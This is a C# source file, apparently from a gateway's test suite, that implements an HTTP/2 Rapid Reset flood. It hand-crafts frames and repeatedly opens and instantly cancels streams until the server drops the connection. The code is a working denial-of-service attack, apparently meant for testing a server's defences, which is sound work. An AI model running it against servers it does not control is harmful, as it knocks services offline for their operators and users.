using System.Buffers.Binary;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Gateway.Tests.Http2;

/// <summary>HTTP/2 by hand (RFC 9113): streams that are opened and cancelled in the same breath, until the server has had enough.</summary>
internal static class RapidReset
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte EndOfStreamAndHeaders = 0x05;
    private static readonly byte[] Cancel = [0, 0, 0, 8];

    /// <summary>Returns when the server closed the connection.</summary>
    public static async Task RunAsync(Uri server, RemoteCertificateValidationCallback trusts, CancellationToken cancellationToken)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(server.Host, server.Port, cancellationToken);
        await using var tls = new SslStream(client.GetStream(), leaveInnerStreamOpen: false, trusts);
        await tls.AuthenticateAsClientAsync(
            new SslClientAuthenticationOptions { TargetHost = server.Host, ApplicationProtocols = [SslApplicationProtocol.Http2] }, cancellationToken);
        await tls.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), cancellationToken);
        await tls.WriteAsync(Frame(Settings, flags: 0, stream: 0, []), cancellationToken);
        var reading = tls.CopyToAsync(Stream.Null, cancellationToken);
        try
        {
            for (var stream = 1; !reading.IsCompleted; stream += 2)
            {
                byte[] both = [.. Frame(Headers, EndOfStreamAndHeaders, stream, Request(server)), .. Frame(Reset, flags: 0, stream, Cancel)];
                await tls.WriteAsync(both, cancellationToken);
            }

            await reading;
        }
        catch (IOException)
        {
            // Closed while we were writing.
        }
    }

    /// <summary>HPACK: three entries of the static table (GET, https, and by index 4 the name of :path), and :authority.</summary>
    private static byte[] Request(Uri server) =>
    [
        0x82, 0x87, .. Literal(4, "/open/slow/100"), .. Literal(1, server.Authority),
    ];

    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
